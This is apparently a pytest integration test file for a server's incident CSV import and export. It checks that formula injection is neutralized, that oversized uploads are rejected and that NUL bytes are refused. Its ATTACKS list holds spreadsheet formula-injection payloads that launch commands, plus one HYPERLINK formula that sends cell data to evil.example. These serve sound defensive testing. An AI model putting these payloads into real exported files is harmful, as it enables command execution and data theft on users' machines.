"""Incident CSV that must not hurt (issue 11): formula injection, oversized files, NUL bytes."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from server.config import ServerSettings
from server.incidents.csv_io import neutralize, unneutralize
from tests.fixtures.incidents_api import (
    OPENED,
    Auth,
    build_app,
    engine_of,
    import_csv,
    make_auth,
    start_client,
)
from tests.fixtures.kpi_reference import add_devices

pytestmark = pytest.mark.integration

#: What the red team put in incidents (8 of 8 ran in a spreadsheet), and their neighbours.
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''",
    "'",
    "'plain quote",
    "a=b, harmless",
]


def test_neutralize_is_undone_exactly() -> None:
    for value in [*ATTACKS, "", "x", "=", "'''=", "-", "'-"]:
        assert unneutralize(neutralize(value)) == value
        assert neutralize(value)[:1] not in {"=", "+", "-", "@", "\t", "\r"}


def test_the_export_neutralizes_formulas_and_the_import_restores_them(
    client: TestClient, auth: Auth, tmp_path: Path
) -> None:
    for number, symptom in enumerate(ATTACKS):
        body = {
            "device_id": "mfp-a",
            "opened_at": OPENED,
            "external_id": f"{'=' if number % 2 else '@'}X-{number}",
            "symptom": symptom,
            "error_code": "-SC541" if number == 0 else None,
        }
        created = client.post("/api/v1/incidents", json=body, headers=auth("operator"))
        assert created.status_code == 201, created.text
    stored = {
        row["external_id"]: row
        for row in client.get(
            "/api/v1/incidents", params={"limit": 1000}, headers=auth("operator")
        ).json()["items"]
    }
    exported = client.get("/api/v1/incidents/export", headers=auth("manager"))
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert len(rows) == len(ATTACKS)
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}, (column, cell)
    symptoms = {row["symptom"] for row in rows}
    assert {"'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"} <= symptoms
    assert rows[0]["error_code"] == "'-SC541"

    # fieldlink's own import gives back exactly what was stored.
    with start_client(tmp_path, "b.db") as other:
        add_devices(engine_of(other))
        other_auth = make_auth(other)
        status, report = import_csv(other, other_auth, exported.text)
        assert status == 200, report
        imported = {
            row["external_id"]: row
            for row in other.get(
                "/api/v1/incidents", params={"limit": 1000}, headers=other_auth("operator")
            ).json()["items"]
        }
    assert set(imported) == set(stored)
    for external_id, row in stored.items():
        for field in ("symptom", "error_code", "external_id"):
            assert imported[external_id][field] == row[field], (external_id, field)


def test_an_import_beyond_the_limit_is_413_and_imports_nothing(tmp_path: Path) -> None:
    settings = ServerSettings(
        database_url=f"sqlite:///{tmp_path / 'small.db'}",
        broker_url="mqtt://127.0.0.1:1",
        state_dir=tmp_path / "state",
        incident_import_max_bytes=4096,
    )
    with TestClient(build_app(settings)) as client:
        add_devices(engine_of(client))
        auth = make_auth(client)
        header = "external_id,device_id,opened_at,symptom\n"
        rows = "".join(f"B-{n},mfp-a,{OPENED},{'x' * 60}\n" for n in range(100))
        big = (header + rows).encode()
        headers = {**auth("manager"), "Content-Type": "text/csv"}
        answer = client.post("/api/v1/incidents/import", content=big, headers=headers)
        assert answer.status_code == 413
        assert "4096" in answer.json()["detail"]

        # Without a Content-Length (chunked), the stream is cut at the limit all the same.
        def chunks() -> Iterator[bytes]:
            for start in range(0, len(big), 1000):
                yield big[start : start + 1000]

        streamed = client.post("/api/v1/incidents/import", content=chunks(), headers=headers)
        assert streamed.status_code == 413
        as_file = client.post(
            "/api/v1/incidents/import",
            files={"file": ("big.csv", big, "text/csv")},
            headers=auth("manager"),
        )
        assert as_file.status_code == 413
        listed = client.get("/api/v1/incidents", headers=auth("operator")).json()
        assert listed["count"] == 0
        small = (header + rows[:500]).encode()
        ok = client.post("/api/v1/incidents/import", content=small, headers=headers)
        assert ok.status_code == 200, ok.text


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (b"external_id,device_id,opened_at\nN-1,mfp-a,2026-03-02T09:00:00Z\nN-2,mfp-\x00a,x\n", 3),
        (b"external_id,device_id\x00,opened_at\n", 1),
        (b'external_id,opened_at,device_id,symptom\nN-1,2026-03-02T09:00Z,mfp-a,"a\nb\x00"\n', 2),
        (b"external_id,device_id,opened_at\nN-1,mfp-a,2026-03-02T09:00:00Z\n\xff\xfe,mfp-a,x\n", 3),
    ],
)
def test_nul_bytes_and_bad_text_are_refused_with_their_line(
    client: TestClient, auth: Auth, data: bytes, line: int
) -> None:
    answer = client.post(
        "/api/v1/incidents/import",
        content=data,
        headers={**auth("manager"), "Content-Type": "text/csv"},
    )
    assert answer.status_code == 422, answer.text
    detail = answer.json()["detail"]
    assert [item["line"] for item in detail][-1] == line
    assert any("NUL" in item["msg"] or "UTF-8" in item["msg"] for item in detail)
    assert client.get("/api/v1/incidents", headers=auth("operator")).json()["count"] == 0
